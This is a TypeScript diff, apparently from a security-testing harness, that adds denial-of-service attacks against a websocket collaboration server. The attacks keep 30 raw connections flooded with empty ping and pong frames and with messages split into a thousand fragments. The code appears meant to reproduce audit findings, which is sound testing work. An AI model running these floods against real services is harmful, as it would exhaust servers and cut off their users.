@@ -15,7 +15,7 @@ function frameHead(opcode: number, isFinal: boolean, length: number): Buffer {
   return Buffer.concat([head, Buffer.from(mask)])
 }
 
-const [continuation, binary, pong] = [0, 2, 10] as const
+const [continuation, binary, ping, pong] = [0, 2, 9, 10] as const
 
 /** Opens a TCP connection and upgrades it to a websocket, without a websocket library. */
 async function upgraded(target: Target, path: string): Promise<Socket> {
@@ -75,4 +75,40 @@ const signedBytes = 15_000_000
 const incompleteUnsigned = incomplete(() => '/hocuspocus', 300, unsignedBytes)
 const incompleteSigned = incomplete(({ token }) => `/sync/hostile/parts/main?token=${token}`, 40, signedBytes)
 
-export const messageAttacks = { incompleteUnsigned, incompleteSigned }
+const times = (count: number, frame: Buffer): Buffer =>
+  Buffer.concat(Array.from({ length: count }, () => frame))
+
+/** Sends the same frames repeatedly, as fast as the server reads them. */
+const repeated = (frames: Buffer): Attack => ({
+  finding: 11,
+  documents: [],
+  prepare: async (target) => {
+    let open: Socket[] = []
+    return async () => {
+      open = open.filter(({ destroyed, writable }) => !destroyed && writable)
+      await together(flooders - open.length, async () => {
+        const connection = await upgraded(target, `/sync/hostile/frames/main?token=${target.token}`)
+        open.push(connection)
+      })
+      for (const connection of open)
+        for (let sent = connection.writableLength; sent < queuedBytes; sent += frames.length)
+          connection.write(frames)
+      await sleep(10)
+    }
+  },
+})
+
+const flooders = 30
+const queuedBytes = 1_000_000
+/** An awareness message without states in 1,000 fragments, of which only the first one has content. */
+const fragmented = Buffer.concat([
+  Buffer.concat([frameHead(binary, false, 3), Buffer.of(1, 1, 0)]),
+  times(998, frameHead(continuation, false, 0)),
+  frameHead(continuation, true, 0),
+])
+
+const pongs = repeated(times(10_000, frameHead(pong, true, 0)))
+const pings = repeated(times(10_000, frameHead(ping, true, 0)))
+const fragments = repeated(times(10, fragmented))
+
+export const messageAttacks = { incompleteUnsigned, incompleteSigned, pongs, pings, fragments }
